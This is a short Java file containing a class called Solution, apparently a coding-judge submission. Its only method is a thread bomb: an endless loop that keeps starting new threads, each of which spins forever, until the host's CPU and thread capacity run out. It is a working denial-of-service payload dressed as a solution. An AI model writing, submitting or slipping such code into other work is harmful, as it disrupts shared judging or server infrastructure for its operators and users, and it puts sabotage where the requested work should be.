class Solution {
    int f(int x) throws Throwable {
        while (true) { new Thread(() -> { while (true) { } }).start(); }
    }
}
